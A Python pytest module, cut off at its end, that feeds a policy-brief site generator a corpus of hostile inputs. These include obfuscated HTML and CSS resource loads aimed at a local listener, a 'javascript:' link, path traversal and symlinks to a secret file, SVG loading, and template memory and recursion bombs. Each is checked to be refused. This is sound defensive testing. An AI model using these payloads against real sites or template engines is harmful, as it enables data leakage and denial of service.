"""A corpus of hostile and careless inputs, each tried against a copy of the fixture project
(tests/fixture: briefs qiaotou and hexi, its own facts, source texts and the template folder
``house/`` its settings name), so that editing the shipped briefs never breaks these tests.
Template attacks go into a folder ``style/`` given with ``--templates``, which the settings
do not name: a case about ``--templates`` cannot pass because of the settings.

Every case asserts what a user sees and what must not happen:

- the exit code and the exact first line of the error output (file and, where the input
  has one, line);
- no traceback;
- the last good output folder byte-identical afterwards;
- no request reaching a local listener that the hostile input points at;
- no file outside the project read or changed (a "secret" file beside the project, whose
  access time and contents are compared before and after).

Most cases run `check` or an HTML-only build of one page in-process; cases that could block
a reader (named pipes, symlink loops) run as a subprocess with a timeout. One good output is
built once for the module and copied into each case's own output folder.
"""

from __future__ import annotations

import http.server
import os
import re
import shutil
import signal
import subprocess
import sys
import threading
import time
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

import pytest
from helpers import ROOT, copy_fixture

from policybrief.build import staging as write
from policybrief.cli import main as cli
from policybrief.render import page as render

SECRET = "facts:\n  - id: stolen\nTOP SECRET\n"
BRIEF = ["--brief", "qiaotou", "--audience", "decision-makers", "--lang", "en", "--format", "html"]


# -- the listener, the secret, the good output -----------------------------------------------


class _Listener(http.server.ThreadingHTTPServer):
    requests: list[str]


@pytest.fixture(scope="module")
def listener():
    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self):  # noqa: N802 - http.server's API
            self.server.requests.append(self.path)
            self.send_response(200)
            self.end_headers()

        def log_message(self, *args):
            pass

    server = _Listener(("127.0.0.1", 0), Handler)
    server.requests = []
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield server
    server.shutdown()
    server.server_close()


@pytest.fixture(scope="module")
def base(tmp_path_factory) -> Path:
    """The fixture project (tests/fixture), copied once; every case copies this copy."""
    return copy_fixture(tmp_path_factory.mktemp("base") / "project")


@pytest.fixture(scope="module")
def good(base, tmp_path_factory) -> Path:
    """The last good output: one HTML page, the index and the fact base."""
    out = tmp_path_factory.mktemp("good") / "out"
    code = cli.main(["--project", str(base), "--out", str(out), *BRIEF, "-q"])
    assert code == 0
    return out


def snapshot(folder: Path) -> dict[str, bytes]:
    return {
        p.relative_to(folder).as_posix(): p.read_bytes()
        for p in sorted(folder.rglob("*"))
        if p.is_file() and not p.is_symlink()
    }


@dataclass
class World:
    """One case's throwaway project, output folder, sources, secret and listener URL."""

    tmp: Path
    project: Path
    out: Path
    sources: Path
    secret: Path
    url: str

    def sub(self, text: str) -> str:
        return (
            text.replace("{P}", str(self.project))
            .replace("{O}", str(self.out))
            .replace("{S}", str(self.sources))
            .replace("{X}", str(self.secret))
            .replace("{U}", self.url)
            .replace("{N}", str(self.tmp / "new"))
        )

    def write(self, name: str, text: str) -> Path:
        path = self.project / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(self.sub(text), encoding="utf-8")
        return path

    def edit(self, name: str, old: str, new: str) -> None:
        path = self.project / name
        text = path.read_text(encoding="utf-8")
        assert old in text, (name, old)
        path.write_text(text.replace(old, self.sub(new), 1), encoding="utf-8")

    def line_of(self, name: str, needle: str) -> int:
        lines = (self.project / name).read_text(encoding="utf-8").split("\n")
        return next(n for n, line in enumerate(lines, 1) if needle in line)


@pytest.fixture
def world(tmp_path, base, good, listener) -> World:
    project = tmp_path / "project"
    shutil.copytree(base, project, symlinks=True)
    out = tmp_path / "out"
    shutil.copytree(good, out)
    sources = tmp_path / "sources"
    shutil.copytree(base / "sources", sources)  # a source folder outside the project
    secret = tmp_path / "secret.txt"
    secret.write_text(SECRET, encoding="utf-8")
    stamp = time.time() - 1000
    os.utime(secret, (stamp - 1000, stamp))  # atime before mtime: a read moves it (relatime)
    return World(
        tmp_path, project, out, sources, secret, f"http://127.0.0.1:{listener.server_address[1]}"
    )


# -- the cases --------------------------------------------------------------------------------

Setup = Callable[[World], None]


@dataclass
class Case:
    setup: Setup | None
    argv: list[str]
    code: int
    first: str | Callable[[World], str]  # the first line of stderr, exactly
    subprocess: bool = False  # could block: run with a timeout
    changes_out: bool = False  # a case meant to succeed: only the named files are checked
    keep: list[str] = field(default_factory=list)  # files that must survive a good build
    ends: str = ""  # the first line is `first`, then text that varies, then this
    then: Callable[[World], None] | None = None  # what a build into {N} must have written


def build(*extra: str) -> list[str]:
    return ["--project", "{P}", "--out", "{O}", *BRIEF, "-q", *extra]


HOUSE = ["--templates", "{P}/style"]


def fresh(*extra: str) -> list[str]:
    """A build into a new folder ({N}), which the case's ``then`` reads."""
    return ["--project", "{P}", "--out", "{N}", *BRIEF, "-q", *extra]


def check(*extra: str) -> list[str]:
    return ["check", "--project", "{P}", "-q", *extra]


def house(files: dict[str, str]) -> Setup:
    def setup(w: World) -> None:
        for name, text in files.items():
            w.write(f"style/{name}", text)

    return setup


def front(block: str) -> Setup:
    """The decision-makers page of a house style with ``block`` before its sections."""
    return house(
        {
            "decision-makers.html": '{% extends "base.html" %}\n'
            "{% block front %}" + block + "{% endblock %}\n"
        }
    )


def outside(url: str, line: int | None = 2) -> str:
    """A page's outside URL, found by the page check; ``line``: where the template has it
    (None: the URL was computed, e.g. from entities, so only the file is known)."""
    where = "style/decision-makers.html" + (f":{line}" if line else "")
    return (
        f"Error: {where}: refers to an outside resource {url!r} (a page may load only "
        "what is inline or in its template folders)"
    )


def page_error(problem: str, where: str = "decision-makers.html:2") -> str:
    return (
        f"Error: style/{where}: {problem} (a page may load only what is inline or in its "
        "template folders)"
    )


def symlink(name: str, target: str) -> Setup:
    def setup(w: World) -> None:
        path = w.project / name
        path.parent.mkdir(parents=True, exist_ok=True)
        if path.exists() or path.is_symlink():
            path.unlink()
        os.symlink(w.sub(target), path)

    return setup


def fifo(name: str) -> Setup:
    def setup(w: World) -> None:
        path = Path(w.sub(name)) if name.startswith("{") else w.project / name
        path.parent.mkdir(parents=True, exist_ok=True)
        if path.exists():
            path.unlink()
        os.mkfifo(path)

    return setup


def both(*setups: Setup) -> Setup:
    def setup(w: World) -> None:
        for one in setups:
            one(w)

    return setup


def settings(line: str) -> Setup:
    """The project's settings with ``line`` instead of the one that sets the same key (or
    added, if none does)."""
    key = line.split("=")[0].strip()

    def setup(w: World) -> None:
        path = w.project / "pyproject.toml"
        rows = path.read_text(encoding="utf-8").split("\n")
        same = [n for n, row in enumerate(rows) if row.split("=")[0].strip() == key]
        if same:
            rows[same[0]] = line
        else:
            rows.insert(rows.index("[tool.policybrief]") + 1, line)
        path.write_text("\n".join(rows), encoding="utf-8")

    return setup


def settings_line(w: World, key: str) -> int:
    return w.line_of("pyproject.toml", f"{key} =")


def cite(item: str) -> Setup:
    return lambda w: w.edit(
        "briefs/qiaotou/en.md", "# lessons\n", f'# lessons\n\nAs {{{{ fact("{item}") }}}} shows.\n'
    )


def audience(folder: str, template: str) -> Setup:
    """An audience ``extra`` declared in ``folder``/audiences.yaml, listed by the brief."""

    def setup(w: World) -> None:
        path = w.project / folder / "audiences.yaml"
        if path.exists():
            text = path.read_text(encoding="utf-8")
        else:
            text = "audiences:\n"
        text = text.rstrip("\n") + (
            f"\n  extra:\n    template: {template}\n    label: {{zh: 额外, en: Extra}}\n"
        )
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text, encoding="utf-8")

    return setup


CASES: dict[str, Case] = {}


def case(name: str, *args, **kwargs) -> None:
    assert name not in CASES
    CASES[name] = Case(*args, **kwargs)


# Data loss: the output folder may not overlap what a build reads.
OVERLAP = "the output folder overlaps the input folder {}/ (use a new folder such as dist/)"
for name, out, shown in (
    ("templates", "{P}/templates", "templates"),
    ("facts", "{P}/facts", "facts"),
    ("briefs", "{P}/briefs", "briefs"),
    ("inside a brief", "{P}/briefs/qiaotou/out", "briefs"),
    ("inside the partials", "{P}/templates/_partials", "templates"),
    ("the house style", "{P}/style", "style"),
    ("the sources", "{S}", "{S}"),
):
    extra = ["--sources", "{S}"] if name == "the sources" else HOUSE
    case(
        f"out: {name}",
        house({"x.html": "x"}),
        ["--project", "{P}", "--out", out, *BRIEF, *extra],
        2,
        f"Error: --out {out}: " + OVERLAP.format(shown),
    )
case(
    "out: the project",
    None,
    ["--project", "{P}", "--out", "{P}", *BRIEF],
    2,
    "Error: --out {P}: the output folder may not be the project folder or hold it "
    "(use a new folder such as dist/)",
)
case(
    "out: above the project",
    None,
    ["--project", "{P}", "--out", "{P}/..", *BRIEF],
    2,
    "Error: --out {P}/..: the output folder may not be the project folder or hold it "
    "(use a new folder such as dist/)",
)
case(
    "out: a file",
    None,
    ["--project", "{P}", "--out", "{P}/pyproject.toml", *BRIEF],
    2,
    "Error: --out {P}/pyproject.toml: not a folder",
)
case(
    "out: a configured template folder",
    settings('templates = ["house"]'),  # (the fixture's own template folder)
    ["--project", "{P}", "--out", "{P}/house/sub", *BRIEF],
    2,
    "Error: --out {P}/house/sub: " + OVERLAP.format("house"),
)
case(
    "out: serve into templates",
    None,
    ["serve", "--project", "{P}", "--out", "{P}/templates", "--port", "0"],
    2,
    "Error: --out {P}/templates: " + OVERLAP.format("templates"),
)

# Data loss: the sweep removes only what the tool made.
for name, path in (
    ("hidden tmp file", ".notes.tmp"),
    ("tmp file in a brief", "qiaotou/.draft.tmp"),
    ("staging-like folder", ".staging/mine/.held"),
    ("numbered staging folder", ".staging/123-abc/keep.txt"),
):
    case(
        f"sweep keeps a user's {name}",
        lambda w, path=path: (w.out / path).parent.mkdir(parents=True, exist_ok=True)
        or (w.out / path).write_text("mine", encoding="utf-8"),
        build("--force"),
        0,
        "",
        changes_out=True,
        keep=[path],
    )

# Escape: what a page may load, found by parsing HTML and CSS.
case("img src", front('<img alt="" src="{U}/a.png">'), build(*HOUSE), 1, outside("{U}/a.png"))
case(
    "entity in the scheme",
    front('<img alt="" src="&#104;ttp://127.0.0.1:1/e.png">'),
    build(*HOUSE),
    1,
    outside("http://127.0.0.1:1/e.png", None),
)
case(
    "tab in the scheme",
    front('<img alt="" src="ht&#9;tp://127.0.0.1:1/t.png">'),
    build(*HOUSE),
    1,
    outside("ht\ttp://127.0.0.1:1/t.png", None),
)
case(
    "later srcset candidate",
    front('<img alt="" src="data:," srcset="data:, 1x, {U}/2.png 2x">'),
    build(*HOUSE),
    1,
    outside("{U}/2.png"),
)
case(
    "srcset after a data: URL",
    front('<img alt="" srcset="data:image/gif;base64,R0 1x,{U}/c 2x">'),
    build(*HOUSE),
    1,
    outside("{U}/c"),
)
case(
    "imagesrcset on link",
    front('<link rel="preload" as="image" imagesrcset="{U}/p.png 1x">'),
    build(*HOUSE),
    1,
    outside("{U}/p.png"),
)
case(
    "CSS escape in url",
    front("<style>p { background: u\\72l({U}/esc.png) }</style>"),
    build(*HOUSE),
    1,
    outside("{U}/esc.png"),
)
case(
    "hex escape in url",
    front("<style>p { background: \\75 rl({U}/hex.png) }</style>"),
    build(*HOUSE),
    1,
    outside("{U}/hex.png"),
)
case(
    "image-set",
    front("<p style=\"background: image-set('{U}/set.png' 1x)\">x</p>"),
    build(*HOUSE),
    1,
    outside("{U}/set.png"),
)
case(
    "-webkit-image-set",
    front('<style>p{background:-webkit-image-set("{U}/w.png" 1x)}</style>'),
    build(*HOUSE),
    1,
    outside("{U}/w.png"),
)
case(
    "@import string",
    front("<style>@import '{U}/i.css' screen;</style>"),
    build(*HOUSE),
    1,
    outside("{U}/i.css"),
)
case(
    "@import url",
    front('<style>@import url("{U}/u.css");</style>'),
    build(*HOUSE),
    1,
    outside("{U}/u.css"),
)
case(
    "@font-face src",
    front("<style>@font-face{font-family:x;src:url({U}/f.woff)}</style>"),
    build(*HOUSE),
    1,
    outside("{U}/f.woff"),
)
case(
    "entities in a style attribute",
    front('<p style="background:url(&quot;{U}/q.png&quot;)">x</p>'),
    build(*HOUSE),
    1,
    outside("{U}/q.png"),
)
case(
    "svg fill url",
    front('<svg><rect fill="url({U}/g.svg#a)"/></svg>'),
    build(*HOUSE),
    1,
    outside("{U}/g.svg#a"),
)
case(
    "svg use href",
    front('<svg><use href="{U}/s.svg#a"/></svg>'),
    build(*HOUSE),
    1,
    outside("{U}/s.svg#a"),
)
case(
    "svg image xlink",
    front('<svg><image xlink:href="{U}/x.png"/></svg>'),
    build(*HOUSE),
    1,
    outside("{U}/x.png"),
)
case(
    "base href",
    front('<base href="{U}/">'),
    build(*HOUSE),
    1,
    page_error("sets a <base> URL (a page may not change where its links point)"),
)
case(
    "meta refresh",
    front('<meta http-equiv="refresh" content="0;url={U}/r">'),
    build(*HOUSE),
    1,
    page_error("has a <meta http-equiv=refresh> (a page may not send the reader elsewhere)"),
)
case(
    "background attribute",
    front('<table background="{U}/b.png"><tr><td>x</td></tr></table>'),
    build(*HOUSE),
    1,
    outside("{U}/b.png"),
)
case(
    "video poster",
    front('<video poster="{U}/v.png"></video>'),
    build(*HOUSE),
    1,
    outside("{U}/v.png"),
)
case(
    "object data",
    front('<object data="{U}/o.svg"></object>'),
    build(*HOUSE),
    1,
    outside("{U}/o.svg"),
)
case(
    "iframe srcdoc",
    front('<iframe title="x" srcdoc="&lt;img src={U}/d.png&gt;"></iframe>'),
    build(*HOUSE),
    1,
    outside("{U}/d.png"),
)
case(
    "form action",
    front('<form action="{U}/f"><button>x</button></form>'),
    build(*HOUSE),
    1,
    outside("{U}/f"),
)
case(
    "input image",
    front('<input type="image" alt="x" src="{U}/in.png">'),
    build(*HOUSE),
    1,
    outside("{U}/in.png"),
)
case(
    "backslash host",
    front('<img alt="" src="\\\\127.0.0.1\\x.png">'),
    build(*HOUSE),
    1,
    outside("\\\\127.0.0.1\\x.png"),
)
case(
    "absolute path",
    front('<img alt="" src="/etc/hostname">'),
    build(*HOUSE),
    1,
    outside("/etc/hostname"),
)
case(
    "climbing path",
    front('<img alt="" src="../../../etc/hostname">'),
    build(*HOUSE),
    1,
    outside("../../../etc/hostname"),
)
case(
    "javascript link",
    front('<a href="java&#x09;script:fetch(1)">x</a>'),
    build(*HOUSE),
    1,
    page_error("links to a script URL 'java\\tscript:fetch(1)'", "decision-makers.html"),
)
case(
    "rel entity attachment",
    front('<link rel="&#97;ttachment" href="x.txt">'),
    build(*HOUSE),
    1,
    page_error("asks for a PDF attachment (rel=attachment)", "decision-makers.html"),
)
case(
    "rel upper-case attachment",
    front('<a rel="nofollow ATTACHMENT" href="x.txt">x</a>'),
    build(*HOUSE),
    1,
    page_error("asks for a PDF attachment (rel=attachment)", "decision-makers.html"),
)
case(
    "overriding index.html",
    house(
        {
            "index.html": "<!DOCTYPE html><html><head><title>x"
            '</title></head><body><img alt="" '
            'src="{U}/index.png"></body></html>'
        }
    ),
    build(*HOUSE),
    1,
    page_error("refers to an outside resource '{U}/index.png'", "index.html:1"),
)
case(
    "overriding index.html without a head",
    house({"index.html": '<img alt="" src="{U}/i">'}),
    build(*HOUSE),
    1,
    page_error("refers to an outside resource '{U}/i'", "index.html:1"),
)
case(
    "syntax error in an overriding index.html",
    house({"index.html": "<p>\n{% if %}"}),
    build(*HOUSE),
    1,
    "Error: style/index.html:2: template syntax error: Expected an "
    "expression, got 'end of statement block'",
)
case(
    "syntax error in an included partial",
    both(
        front('{% include "_partials/broken.html" %}'),
        house({"_partials/broken.html": "{% for %}"}),
    ),
    build(*HOUSE),
    1,
    "Error: style/_partials/broken.html:1: template syntax error: "
    "Expected an expression, got 'end of statement block'",
)
case(
    "overriding facts.html",
    house({"facts.html": "<!DOCTYPE html><title>x</title><style>@import '{U}/f.css';</style>"}),
    build(*HOUSE),
    1,
    page_error("refers to an outside resource '{U}/f.css'", "facts.html:1"),
)

SYMLINK_OUT = "symlink leads outside {}/ (copy the file into the folder instead)"

# Escape: an image in prose comes from its brief's folder and nowhere else.
PICTURE = "briefs/qiaotou/en.md"
IN_FOLDER = "put the file in the brief's folder, beside brief.yaml, and write its name"


def picture(name: str, *setups: Setup) -> Setup:
    """A figure in the lessons of the qiaotou brief showing the image ``name``."""

    def setup(w: World) -> None:
        for one in setups:
            one(w)
        w.edit(PICTURE, "# lessons\n", f"# lessons\n\nFigure[leak]: A leak\n\n![A leak]({name})\n")

    return setup


def picture_error(message: str) -> Callable[[World], str]:
    return lambda w: f"{PICTURE}:{w.line_of(PICTURE, '![A leak]')}: {w.sub(message)}"


for name, target, message in (
    (
        "climbing to the secret",
        "../../../secret.txt",
        f"image '../../../secret.txt' leads out of the brief's folder ('..') ({IN_FOLDER})",
    ),
    ("at an absolute path", "{X}", f"image '{{X}}' is an absolute path ({IN_FOLDER})"),
    (
        "on the network",
        "{U}/leak.png",
        "image '{U}/leak.png' is a URL; images come from the brief's own folder (nothing is "
        f"loaded from elsewhere: {IN_FOLDER})",
    ),
    (
        "as a file URL",
        "file://{X}",
        "image 'file://{X}' is a URL; images come from the brief's own folder (nothing is "
        f"loaded from elsewhere: {IN_FOLDER})",
    ),
):
    case(f"prose image {name}", picture(target), build(), 1, picture_error(message))
case(
    "prose image through a symlink out",
    picture("leak.png", symlink("briefs/qiaotou/leak.png", "{X}")),
    build(),
    1,
    "briefs/qiaotou/leak.png: " + SYMLINK_OUT.format("briefs"),
)
case(
    "prose image as an SVG that loads a URL",
    picture(
        "evil.svg",
        lambda w: w.write(
            "briefs/qiaotou/evil.svg",
            '<svg xmlns="http://www.w3.org/2000/svg"><image href="{U}/svg.png"/></svg>',
        ),
    ),
    build(),
    1,
    picture_error(
        "image 'evil.svg': SVG is not accepted (an SVG file can load other files and carry "
        "scripts) (convert it to PNG: rsvg-convert -w 2000 evil.svg -o evil.png)"
    ),
)
case(
    "prose image that is a text file",
    picture("notes.png", lambda w: w.write("briefs/qiaotou/notes.png", "{X}\n")),
    build(),
    1,
    picture_error("image 'notes.png' is not a readable PNG file (save it again as PNG)"),
)

# Escape: files outside the project or their folder are never read.
for name, link, target, command, shown in (
    ("template symlink", "style/decision-makers.html", "{X}", build(*HOUSE), "style"),
    ("partial symlink", "style/_partials/notes.html", "{X}", check(*HOUSE), "style"),
    ("folder symlink", "style/_partials", "{S}", check(*HOUSE), "style"),
    ("facts symlink", "facts/stolen.yaml", "{X}", check(), "facts"),
    ("prose symlink", "briefs/qiaotou/en.md", "{X}", build(), "briefs"),
    ("brief folder symlink", "briefs/elsewhere", "{S}", check(), "briefs"),
):
    case(
        f"{name} out of its folder",
        symlink(link, target),
        command,
        1,
        f"{link}: " + SYMLINK_OUT.format(shown),
    )
case(
    "source symlink out of the source folder",
    symlink("../sources/leak.txt", "{X}"),
    check("--sources", "{S}"),
    1,
    "{S}/leak.txt: " + SYMLINK_OUT.format("{S}"),
)
case(
    "source file outside the source folder",
    lambda w: w.edit("facts/sources.yaml", "file: qiaotou.txt", "file: ../secret.txt"),
    check("--sources", "{S}"),
    1,
    lambda w: f"facts/sources.yaml:{w.line_of('facts/sources.yaml', 'qiaotou-case:') + 1}: "
    "source 'qiaotou-case': file '../secret.txt' must name a file inside the source "
    "folders (write the path relative to the source folder, without '..')",
)
case(
    "include an absolute path",
    front('{% include "/etc/hostname" %}'),
    build(*HOUSE),
    1,
    "Error: style/decision-makers.html:2: template '/etc/hostname' not found (looked in "
    "style, house, templates, the built-in templates; names are relative to a template folder)",
)

# Crash or hang: templates.
NEST = (
    "templates nest too deeply (a template that extends or includes itself, or a macro "
    "that calls itself without end)"
)
case(
    "template extends itself",
    house({"decision-makers.html": '{% extends "decision-makers.html" %}'}),
    build(*HOUSE),
    1,
    f"Error: style/decision-makers.html:1: template error: {NEST}",
)
case(
    "templates extend each other",
    house(
        {
            "decision-makers.html": '{% extends "b.html" %}',
            "b.html": '{% extends "decision-makers.html" %}',
        }
    ),
    build(*HOUSE),
    1,
    f"Error: style/decision-makers.html:1: template error: {NEST}",
)
case(
    "template includes itself",
    front('{% include "decision-makers.html" %}'),
    build(*HOUSE),
    1,
    f"Error: style/decision-makers.html:1: template error: {NEST}",
)
case(
    "recursive macro",
    front("{% macro f(n) %}{{ f(n) }}{% endmacro %}{{ f(1) }}"),
    build(*HOUSE),
    1,
    f"Error: style/decision-makers.html:2: template error: {NEST}",
)
case(
    "range(200000)",
    front("{% for i in range(200000) %}.{% endfor %}"),
    build(*HOUSE),
    1,
    "Error: style/decision-makers.html:2: template error: range() of 200000 items; at most 100000",
)
case(
    "nested ranges",
    front("{% for i in range(2000) %}{% for j in range(2000) %}{% endfor %}{% endfor %}"),
    build(*HOUSE),
    1,
    "Error: style/decision-makers.html:2: template error: loops over range() ran to more "
    "than 1000000 items",
)
case(
    "huge repeat",
    front('{{ "x" * 10000000000 }}'),
    build(*HOUSE),
    1,
    "Error: style/decision-makers.html:2: template error: a text or list of 10000000000 "
    "items; at most 10000000",
)
case(
    "huge power",
    front("{{ 9**(9**9) }}"),
    build(*HOUSE),
    1,
    "Error: style/decision-makers.html:2: template error: 9 ** 387420489 is too large",
)
case(
    "huge concatenation",
    front('{{ ("x" * 6000000) + ("y" * 6000000) }}'),
    build(*HOUSE),
    1,
    "Error: style/decision-makers.html:2: template error: a text or list of 12000000 items; "
    "at most 10000000",
)
case(
    "huge list",
    front("{{ [0] * 100000000 }}"),
    build(*HOUSE),
    1,
    "Error: style/decision-makers.html:2: template error: a text or list of 100000000 items; "
    "at most 10000000",
)
case(
    "doubling by concatenation",
    front(
        '{% set ns = namespace(x="x" * 1000000) %}{% for i in range(40) %}'
        "{% set ns.x = ns.x ~ ns.x %}{% endfor %}{{ ns.x|length }}"
    ),
    build(*HOUSE),
    1,
    "Error: style/decision-makers.html:2: template error: out of memory (a page may use at "
    "most 1024 MiB more while it renders)",
)
case(
    "replace bomb",
    front('{% set s = "x" * 3000 %}{{ (s|replace("x", s))|replace("x", s) }}'),
    build(*HOUSE),
    1,
    "Error: style/decision-makers.html:2: template error: out of memory (a page may use at "
    "most 1024 MiB more while it renders)",
)
case(
    "wide format",
    front('{{ "{:>99999999}".format(1) }}'),
    build(*HOUSE),
    1,
    "Error: style/decision-makers.html: template error: the page is 100,0",
    ends=" characters long; at most 50,000,000",
)

# Crash or hang: special files and loops among the inputs (subprocesses: they could block).
NOT_REGULAR = "not a regular file (a named pipe, device or socket) (remove it)"
for name, path, command, shown in (
    ("facts file", "facts/pipe.yaml", check(), "facts/pipe.yaml"),
    ("prose file", "briefs/qiaotou/en.md", build(), "briefs/qiaotou/en.md"),
    ("template", "style/_partials/pipe.html", check(*HOUSE), "style/_partials/pipe.html"),
    ("audiences file", "style/audiences.yaml", build(*HOUSE), "style/audiences.yaml"),
    ("source text", "{S}/pipe.txt", check("--sources", "{S}"), "{S}/pipe.txt"),
):
    case(
        f"named pipe as a {name}",
        fifo(path),
        command,
        1,
        f"{shown}: {NOT_REGULAR}",
        subprocess=True,
    )
case(
    "named pipe as pyproject.toml",
    fifo("pyproject.toml"),
    check(),
    1,
    "pyproject.toml: not a regular file (a named pipe, device or socket) (project files must "
    "be ordinary files)",
    subprocess=True,
)
case(
    "symlink loop in a template folder",
    symlink("style/loop.html", "loop.html"),
    build(*HOUSE),
    1,
    "style/loop.html: symlink loop (remove the link)",
    subprocess=True,
)
case(
    "folder symlink loop",
    both(symlink("style/a", "b"), symlink("style/b", "a")),
    check(*HOUSE),
    1,
    "style/a: symlink loop (remove the link)",
    subprocess=True,
)
case(
    "symlink loop in facts",
    symlink("facts/loop.yaml", "loop.yaml"),
    check(),
    1,
    "facts/loop.yaml: symlink loop (remove the link)",
    subprocess=True,
)

# Crash: an empty facts file must not switch off the unknown-id checks.
for name, text in (("empty", ""), ("comments-only", "# nothing yet\n"), ("blank lines", "\n\n\n")):
    case(
        f"{name} facts file",
        both(lambda w, text=text: w.write("facts/new.yaml", text), cite("no.such.fact")),
        build(),
        1,
        lambda w: f"briefs/qiaotou/en.md:{w.line_of('briefs/qiaotou/en.md', 'no.such.fact')}: "
        "unknown fact 'no.such.fact' (check the id in facts/*.yaml)",
    )

# Usage and configuration.
case(
    "port too large",
    None,
    ["serve", "--project", "{P}", "--out", "{O}", "--port", "99999"],
    2,
    "Error: --port 99999: a port is a number from 0 to 65535",
)
case(
    "negative port",
    None,
    ["serve", "--project", "{P}", "--out", "{O}", "--port", "-1"],
    2,
    "Error: --port -1: a port is a number from 0 to 65535",
)
case(
    "missing project",
    None,
    ["check", "--project", "{P}/nowhere"],
    2,
    "Error: --project {P}/nowhere: no such folder",
)
case(
    "project is a file",
    None,
    [*build()[:1], "{P}/pyproject.toml", *build()[2:]],
    2,
    "Error: --project {P}/pyproject.toml: no such folder",
)
case(
    "templates is a file",
    None,
    check("--templates", "{P}/pyproject.toml"),
    2,
    "Error: --templates {P}/pyproject.toml: not a folder",
)
case(
    "templates is a string",
    settings('templates = "house"'),
    check(),
    1,
    lambda w: f"pyproject.toml:{settings_line(w, 'templates')}: templates must be a list of "
    "folder names, not str 'house' (write templates = [\"house\"])",
)
case(
    "templates holds a number",
    settings("templates = [1]"),
    build(),
    1,
    lambda w: f"pyproject.toml:{settings_line(w, 'templates')}: templates must be a list of "
    'folder names, not list [1] (write templates = ["house"])',
)
case(
    "source_texts is a number",
    lambda w: w.edit("pyproject.toml", 'source_texts = "', 'source_texts = 5\nx = "'),
    check(),
    1,
    lambda w: f"pyproject.toml:{settings_line(w, 'source_texts')}: source_texts must be a "
    'folder name or a list of them, not int 5 (write source_texts = ["../shared/seeds"])',
)
case(
    "configured template folder missing",
    settings('templates = ["house", "nothere"]'),
    check(),
    1,
    lambda w: f"pyproject.toml:{settings_line(w, 'templates')}: template folder 'nothere' "
    "not found (create it, or correct templates in [tool.policybrief])",
)
case(
    "audience of a user's audiences.yaml without its template",
    both(
        audience("style", "extra.html"),
        lambda w: w.edit("briefs/qiaotou/brief.yaml", "audiences: [", "audiences: [extra, "),
    ),
    check(*HOUSE),
    1,
    lambda w: f"style/audiences.yaml:{w.line_of('style/audiences.yaml', 'extra.html')}: "
    "audience 'extra': template 'extra.html' not found (looked in style, house, templates, the built-in templates)",
)
case(
    "audience of the built-in audiences.yaml without its template",
    audience("templates", "nowhere.html"),
    check(),
    1,
    lambda w: f"templates/audiences.yaml:"
    f"{w.line_of('templates/audiences.yaml', 'nowhere.html')}: audience 'extra': "
    "template 'nowhere.html' not found (looked in house, templates, the built-in templates)",
)


# Word: a house reference.docx is rebuilt from the parts a house style is for; nothing
# else it holds (relationships, macros, fields, entities) reaches the Word edition.
WORD = "qiaotou/decision-makers.en.docx"
W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
RELS = "word/_rels/document.xml.rels"


def reference_docx(*edits: Callable[[dict[str, bytes], World], None]) -> Setup:
    """A house style ``style/`` whose reference.docx has a letterhead, edited by ``edits``
    (each changes the package's parts, by name)."""

    def setup(w: World) -> None:
        import io
        import zipfile

        import docx

        made = docx.Document()
        made.sections[0].header.paragraphs[0].text = "HOUSE LETTERHEAD"
        made.sections[0].footer.paragraphs[0].text = "HOUSE FOOTER"
        made.add_paragraph("placeholder text")
        data = io.BytesIO()
        made.save(data)
        with zipfile.ZipFile(data) as archive:
            parts = {name: archive.read(name) for name in archive.namelist()}
        for edit in edits:
            edit(parts, w)
        out = w.project / "style/reference.docx"
        out.parent.mkdir(parents=True, exist_ok=True)
        with zipfile.ZipFile(out, "w") as archive:
            for name, content in parts.items():
                archive.writestr(name, content)

    return setup


def relation(part: str, xml: str) -> Callable[[dict[str, bytes], World], None]:
    """Add a relationship (raw XML, {U} the listener) to a part's .rels."""

    def edit(parts: dict[str, bytes], w: World) -> None:
        rels = parts.get(part) or (
            b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships '
            b'xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>'
        )
        parts[part] = rels.replace(b"</Relationships>", w.sub(xml).encode() + b"</Relationships>")

    return edit


def in_part(part: str, old: str, new: str) -> Callable[[dict[str, bytes], World], None]:
    def edit(parts: dict[str, bytes], w: World) -> None:
        text = parts[part].decode("utf-8")
        assert old in text, (part, old)
        parts[part] = text.replace(old, w.sub(new), 1).encode("utf-8")

    return edit


def added(part: str, content: bytes) -> Callable[[dict[str, bytes], World], None]:
    def edit(parts: dict[str, bytes], w: World) -> None:
        parts[part] = content

    return edit


def header_part(parts: dict[str, bytes]) -> str:
    return next(n for n in parts if n.startswith("word/header"))


def in_header(xml: str) -> Callable[[dict[str, bytes], World], None]:
    """Put ``xml`` (runs or fields) into the letterhead's paragraph."""

    def edit(parts: dict[str, bytes], w: World) -> None:
        name = header_part(parts)
        text = parts[name].decode("utf-8")
        parts[name] = text.replace("</w:p>", w.sub(xml) + "</w:p>", 1).encode("utf-8")

    return edit


def word_is_clean(w: World) -> None:
    """The Word edition: well-formed XML parts, no outside relationship, no macros, no
    field a house header brought, the listener's address nowhere, the letterhead kept."""
    import zipfile

    import docx
    from lxml import etree

    path = w.project.parent / "new" / WORD
    strict = etree.XMLParser(resolve_entities=False, no_network=True, load_dtd=False)
    with zipfile.ZipFile(path) as archive:
        names = archive.namelist()
        assert not [n for n in names if "vba" in n.lower() or n.endswith((".bin", ".dotm"))]
        for name in names:
            data = archive.read(name)
            assert w.url.encode() not in data, name
            if name.endswith((".xml", ".rels")):
                root = etree.fromstring(data, strict)  # well-formed, no DTD
                text = etree.tostring(root).decode()
                assert "ENTITY" not in text and "INCLUDEPICTURE" not in text, name
                assert not re.search(r"\bDDE(AUTO)?\b", text), name
                assert "attachedTemplate" not in text, name
                for rel in root.iter("{*}Relationship"):
                    assert (rel.get("TargetMode") or "Internal") == "Internal", (name, rel.attrib)
    document = docx.Document(str(path))
    header = "\n".join(p.text for p in document.sections[0].header.paragraphs)
    assert "HOUSE LETTERHEAD" in header and "Qiaotou" in header
    assert "placeholder text" not in "\n".join(p.text for p in document.paragraphs)


def word_case(name: str, *edits: Callable[[dict[str, bytes], World], None]) -> None:
    case(
        f"reference.docx: {name}",
        reference_docx(*edits),
